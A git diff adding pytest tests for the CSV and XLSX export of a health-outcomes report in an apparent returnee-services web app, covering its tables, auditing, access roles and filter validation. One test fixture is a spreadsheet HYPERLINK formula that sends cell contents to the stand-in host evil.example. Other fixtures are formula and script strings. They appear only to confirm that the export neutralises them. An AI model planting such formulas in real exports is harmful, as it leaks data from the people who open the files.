@@ -7,11 +7,14 @@ from datetime import date, timedelta
 from decimal import Decimal
 
 import pytest
-from sqlalchemy import text
+from sqlalchemy import select, text
 from werkzeug.datastructures import MultiDict
 
+from returnsvc.audit.models import AuditEntry
 from returnsvc.auth.models import User
 from returnsvc.core.clock import day_start, local_today
+from returnsvc.core.countries import country_name
+from returnsvc.core.i18n import in_locale
 from returnsvc.enterprise.models import Enterprise
 from returnsvc.extensions import db
 from returnsvc.matching.models import MatchDecision, Placement
@@ -22,6 +25,7 @@ from returnsvc.skills.models import Qualification, WorkExperience, WorkPlace
 from tests.cases.helpers import other_client
 from tests.guide_factories import ensure_isco
 from tests.helpers import count_statements
+from tests.reports.export_helpers import csv_rows, csv_sections, sheet_rows, workbook
 
 EN = {"Accept-Language": "en"}
 ES = {"Accept-Language": "es"}
@@ -426,3 +430,194 @@ def test_the_dashboard_links_to_the_report_with_its_filters(client, sign_in, wor
 def test_other_roles_are_refused(client, sign_in, world):
     sign_in("counsellor", office_id=world["ec"].id, locale="en")
     assert client.get("/reports/health", headers=EN).status_code == 403
+
+
+# --- the export (/reports/exports/health.csv and .xlsx) -------------------------------------
+
+HOSTILE_OFFICE = '=HYPERLINK("http://evil.example/?x="&A1,"Cuenca")'
+TITLES = [
+    "Filters", "By country and year of return", "By sex", "By occupation group",
+    "Recognition of qualifications", "Current situation",
+]  # fmt: skip
+
+
+def _export(client, file_format="csv", **args):
+    response = client.post(f"/reports/exports/health.{file_format}", query_string=args, headers=EN)
+    assert response.status_code == 200, response.get_data(as_text=True)[:400]
+    return response
+
+
+def _counts_of(counts) -> list[str]:
+    return [str(n) for n in (counts.female, counts.male, counts.other, counts.total)]
+
+
+BY_SEX = ["Women", "Men", "Other or not said", "Total"]
+
+
+def _expected_tables(app, user_id, args) -> dict:
+    """The report's tables as an English CSV writes them, from health_report (the page's)."""
+    _filters, report = _compute(app, user_id, args)
+    total = _counts_of(report.total)
+    with app.test_request_context(), in_locale("en"):
+        places = [
+            [country_name(country, "en"), str(year) if year else "Not yet returned", *_counts_of(c)]
+            for (country, year), c in report.by_country_year
+        ]
+        sexes = [
+            [label, str(report.total[sex])]
+            for sex, label in zip(("female", "male", "other"), BY_SEX[:3], strict=True)
+        ]
+        tables = {
+            "By country and year of return": [
+                ["Country of return", "Year of return", *BY_SEX],
+                *places,
+                ["Total", "", *total],
+            ],
+            "By sex": [["Sex", "People"], *sexes, ["Total", total[-1]]],
+        }
+        for title, first, rows in (
+            ("By occupation group", "Occupation group", report.by_occupation),
+            ("Recognition of qualifications", "Recognition", report.by_recognition),
+            ("Current situation", "Situation", report.by_situation),
+        ):
+            labelled = [[str(key.label), *_counts_of(c)] for key, c in rows]
+            tables[title] = [[first, *BY_SEX], *labelled, ["Total", *total]]
+    return tables
+
+
+def test_the_csv_holds_the_pages_tables(app, client, make, sign_in, world):
+    manager = sign_in("manager", office_id=world["ec"].id, locale="en")
+    response = _export(client)
+    this_year = local_today().year
+    assert response.mimetype == "text/csv"
+    assert response.headers["Cache-Control"] == "no-store"
+    disposition = response.headers["Content-Disposition"]
+    assert f"outcomes-health-{this_year}-01-01-{this_year}-12-31.csv" in disposition
+    sections = csv_sections(response.data)
+    assert list(sections) == TITLES
+    filters = dict(sections["Filters"][1:])
+    assert filters["Country of return"] == "Ecuador" and filters["Office"] == "All"
+    assert filters["Recognition and situation read on"] == local_today().isoformat()
+    expected = _expected_tables(app, manager.id, {})
+    assert {title: sections[title] for title in TITLES[1:]} == expected
+    # The numbers the page shows: its doctors' row (Ana; Diego and Ivan) and its total.
+    html = client.get("/reports/health", headers=EN).get_data(as_text=True)
+    occupations = html.split('id="health-occupation"', 1)[1].split("</section>", 1)[0]
+    doctors = occupations.split('<th scope="row">Medical doctors (ISCO 221)</th>', 1)[1]
+    shown = [cell.split("<", 1)[0] for cell in doctors.split("</tr>", 1)[0].split('">')[1:]]
+    assert shown == ["1", "2", "0", "3"]
+    assert ["Medical doctors (ISCO 221)", *shown] in sections["By occupation group"]
+    assert sections["By sex"][-1] == ["Total", "7"]
+    # Counts only: nobody's name, document or title.
+    body = response.get_data(as_text=True)
+    with app.app_context():
+        people = db.session.execute(
+            text("SELECT given_names, first_surname, document_number FROM returnee")
+        ).all()
+    for person in people:
+        for value in person:
+            assert not value or value not in body, value
+    assert "Título" not in body and "Hospital" not in body
+
+
+def test_the_xlsx_has_a_sheet_per_table_with_numbers(app, client, sign_in, world):
+    manager = sign_in("manager", office_id=world["ec"].id, locale="en")
+    response = _export(client, "xlsx", sex="female")
+    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    book = workbook(response.data)
+    assert book.sheetnames == [
+        "Filters", "By country and year of return", "By sex", "By occupation group",
+        "Recognition of qualifications", "Current situation",
+    ]  # fmt: skip
+    filters = dict(sheet_rows(book["Filters"])[1:])
+    assert filters["Sex"] == "Woman"
+    assert filters["Recognition and situation read on"].date() == local_today()
+    expected = _expected_tables(app, manager.id, {"sex": "female"})
+    for title in TITLES[1:]:
+        rows = sheet_rows(book[title])
+        as_text = [["" if v is None else str(v) for v in row] for row in rows]
+        assert as_text == expected[title], title
+        assert isinstance(rows[-1][-1], int)  # numbers stay numbers
+
+
+def test_formula_text_is_neutralised(app, client, make, sign_in, world):
+    hostile = make.office("EC", name=HOSTILE_OFFICE)
+    sign_in("manager", office_id=world["ec"].id, locale="en", full_name="=SUM(A1:A9)")
+    rows = csv_rows(_export(client, office=hostile.id).data)
+    assert ["Office", "'" + HOSTILE_OFFICE] in rows
+    assert ["Made by", "'=SUM(A1:A9)"] in rows
+    book = workbook(_export(client, "xlsx", office=hostile.id).data)
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert all(cell.data_type != "f" for cell in cells)
+    office = next(cell for cell in cells if cell.value == HOSTILE_OFFICE)
+    assert office.data_type == "s"
+
+
+def test_the_export_is_audited(app, client, sign_in, world):
+    manager = sign_in("manager", office_id=world["ec"].id, locale="en")
+    year = local_today().year
+    sections = csv_sections(_export(client, year=year, sex="female").data)
+    with app.app_context():
+        entry = db.session.scalars(
+            select(AuditEntry).where(AuditEntry.action == "outcomes.exported")
+        ).one()
+        recorded = (entry.actor_id, entry.changes)
+    rows = sum(len(table) - 1 for title, table in sections.items() if title != "Filters")
+    assert recorded == (
+        manager.id,
+        {
+            "kind": "health",
+            "format": "csv",
+            "filters": {"country": "EC", "sex": "female", "year": year},
+            "rows": rows,
+        },
+    )
+
+
+@pytest.mark.parametrize("role", ["counsellor", "returnee"])
+def test_only_those_who_see_outcomes_export_it(client, sign_in, world, role):
+    sign_in(role, office_id=world["ec"].id)
+    for file_format in ("csv", "xlsx"):
+        assert client.post(f"/reports/exports/health.{file_format}").status_code == 403
+
+
+def test_anonymous_unknown_format_and_get(client, sign_in, world):
+    assert client.post("/reports/exports/health.csv").status_code == 302
+    sign_in("manager", office_id=world["ec"].id)
+    assert client.post("/reports/exports/health.pdf").status_code == 404
+    assert client.get("/reports/exports/health.csv").status_code == 405
+
+
+BAD_ARGS = [
+    {"office": "abc"}, {"office": "99999999999999"}, {"office": "-1"}, {"year": "²"},
+    {"year": "1999"}, {"year": "2025", "quarter": "9"}, {"from": "2025-02-30", "to": "x"},
+    {"from": "2025-12-31", "to": "2025-01-01"}, {"sex": "<script>"}, {"age": "old"},
+    {"programme": "=1+1"}, {"health": "maybe"}, {"country": "ZZ"}, {"country": "BO"},
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("args", BAD_ARGS)
+def test_bad_filter_values_never_fail(client, sign_in, world, args):
+    sign_in("manager", office_id=world["ec"].id, locale="en")
+    for file_format in ("csv", "xlsx"):
+        response = client.post(
+            f"/reports/exports/health.{file_format}", query_string=args, headers=EN
+        )
+        assert response.status_code == 200, args
+
+
+def test_a_nul_in_the_filters_is_refused_cleanly(client, sign_in, world):
+    sign_in("manager", office_id=world["ec"].id, locale="en")
+    response = client.post("/reports/exports/health.csv", query_string={"office": "\x00"})
+    assert response.status_code == 400  # core.input_guard, as everywhere
+
+
+def test_the_page_offers_the_export_of_its_filters(client, sign_in, world):
+    sign_in("manager", office_id=world["ec"].id, locale="en")
+    html = client.get("/reports/health?sex=female", headers=EN).get_data(as_text=True)
+    forms = html.split('class="report-exports', 1)[1].split("</section>", 1)[0]
+    for file_format in ("csv", "xlsx"):
+        action = forms.split(f'action="/reports/exports/health.{file_format}?', 1)[1]
+        action = action.split('"', 1)[0]
+        assert "country=EC" in action and "sex=female" in action
+    assert 'method="post"' in forms and 'name="csrf_token"' in forms
